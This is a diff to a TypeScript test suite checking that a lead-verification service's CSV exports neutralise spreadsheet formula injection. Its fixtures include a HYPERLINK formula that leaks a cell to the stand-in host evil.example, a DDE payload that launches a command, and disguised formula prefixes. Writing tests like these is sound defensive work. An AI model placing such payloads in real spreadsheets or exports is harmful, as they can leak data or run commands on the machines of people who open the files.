@@ -5,7 +5,7 @@
  * forged X-Forwarded-For header.
  */
 import { randomBytes } from 'node:crypto';
-import { unguardCell } from '@leadproof/engine';
+import { startsFormula, unguardCell } from '@leadproof/engine';
 import { Leadproof } from '@leadproof/sdk/node';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { RATE_WINDOW_SECONDS } from '../../auth/builtinAuth';
@@ -19,8 +19,6 @@ import { authedFetch, createTestUser, type TestUser } from '../../testing/testUs
 const PER_IP = 6;
 const PER_EMAIL = 3;
 
-/** What a spreadsheet runs as a formula (docs/results-format.md, "Formula injection"). */
-const FORMULA_START = /^[=+\-@\t\r]/;
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&C2,"Click")';
 const HEADER_HYPERLINK = '=HYPERLINK("http://evil.example/h","header")';
 
@@ -28,7 +26,10 @@ const HEADER_HYPERLINK = '=HYPERLINK("http://evil.example/h","header")';
 const quote = (cell: string) => (/[",\r\n\t]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell);
 const csv = (rows: string[][]) => `${rows.map((row) => row.map(quote).join(',')).join('\r\n')}\r\n`;
 
-/** A list whose header and every column carry a formula, among contacts the engine can verify. */
+/**
+ * A list whose header and every column carry a formula, among contacts the engine can verify, and numbers
+ * and phones as typed that must come back byte for byte (docs/results-format.md, "Formula injection").
+ */
 const HOSTILE_CSV = csv([
   ['first_name', 'last_name', 'email', 'phone', 'company', 'title', 'city', HEADER_HYPERLINK],
   [
@@ -43,7 +44,19 @@ const HOSTILE_CSV = csv([
   ],
   ['\r=1+1', 'Normal', 'bob@example.com', '415 555 0101', 'Acme', "=cmd|'/C calc'!A0", 'Paris', '=1+1'],
   ['Cy', '-Dash', '=1+2@example.com', '@415 555 0102', '+Plus Inc', '-', '@', '+'],
+  [
+    '+44 20 7946 0958',
+    '-7.5',
+    'dee@example.com',
+    '+1-415-555-0100 x123',
+    '\u{ff1d}1+1',
+    '\n=1+1',
+    '-2+3',
+    '+42',
+  ],
 ]);
+/** The cells of HOSTILE_CSV a spreadsheet can at most do arithmetic with: written exactly as they are. */
+const AS_TYPED = ['+1 415 555 0100', '+44 20 7946 0958', '-7.5', '+1-415-555-0100 x123', '+42'];
 
 describe.each(databaseKinds)('abuse on %s', (kind) => {
   let server: TestServer;
@@ -69,7 +82,7 @@ describe.each(databaseKinds)('abuse on %s', (kind) => {
   const formulaCells = (text: string) =>
     parseCsv(text).flatMap((row, r) =>
       row.flatMap((cell, c) =>
-        FORMULA_START.test(cell) ? [`row ${r + 1}, column ${c + 1}: ${JSON.stringify(cell)}`] : [],
+        startsFormula(cell) ? [`row ${r + 1}, column ${c + 1}: ${JSON.stringify(cell)}`] : [],
       ),
     );
 
@@ -91,18 +104,28 @@ describe.each(databaseKinds)('abuse on %s', (kind) => {
         expect(response.status).toBe(200);
         const text = await response.text();
         expect(formulaCells(text), `results${query}`).toEqual([]);
-        const [header, first] = parseCsv(text) as [string[], string[]];
+        const [header, first, ...rest] = parseCsv(text) as [string[], string[], ...string[][]];
         expect(header).toContain(`'${HEADER_HYPERLINK}`);
         expect(first).toContain(`'${HYPERLINK}`);
         // Programs reading the file undo the guard with one rule and get the input back.
-        expect(first.slice(0, 7).map(unguardCell)).toEqual(parseCsv(HOSTILE_CSV)[1]?.slice(0, 7));
+        const input = parseCsv(HOSTILE_CSV).slice(1);
+        for (const [i, row] of [first, ...rest].entries()) {
+          expect(row.slice(0, 8).map(unguardCell)).toEqual(input[i]);
+        }
+        // Numbers and phones as typed are not guarded at all, in the input columns and in E.164.
+        expect(first[3]).toBe('+1 415 555 0100');
+        expect(first[header.indexOf('lp_phone_e164')]).toBe('+14155550100');
+        if (query === '') {
+          expect(rest).toHaveLength(3);
+          for (const cell of AS_TYPED) expect(rest.flat().concat(first), cell).toContain(cell);
+        }
       }
     });
 
     it('neutralises formula text in the credit transactions export, keeping plain amounts as numbers', async () => {
       // Descriptions are written by the server (plan names, order ids), so the ledger is seeded directly
       // with what a hostile plan name or a future free-text reason could carry.
-      const hostile = [HYPERLINK, '+1+1', '-1+cmd', '@SUM(A1)', '\t=1+1', '\r=1+1'];
+      const hostile = [HYPERLINK, '+1+1', '-1+cmd', '@SUM(A1)', '\t=1+1', '\r=1+1', '\n=1+1', '\u{ff1d}1+1'];
       const expiresAt = new Date(Date.now() + 24 * 3600 * 1000);
       for (const description of hostile) {
         await server.services.creditLedger.credit({
@@ -125,10 +148,8 @@ describe.each(databaseKinds)('abuse on %s', (kind) => {
       const response = await authedFetch(server, user, '/api/credit-transactions/export');
       expect(response.status).toBe(200);
       const text = await response.text();
-      const plainNumber = /^-?\d+(\.\d+)?$/;
       const rows = parseCsv(text);
-      const unsafe = rows.flat().filter((cell) => FORMULA_START.test(cell) && !plainNumber.test(cell));
-      expect(unsafe).toEqual([]);
+      expect(rows.flat().filter(startsFormula)).toEqual([]);
       const descriptions = rows.slice(1).map((row) => row[3]);
       for (const description of [...hostile, '=1-2']) expect(descriptions).toContain(`'${description}`);
       expect(rows.slice(1).map((row) => row[1])).toContain('-2.5');
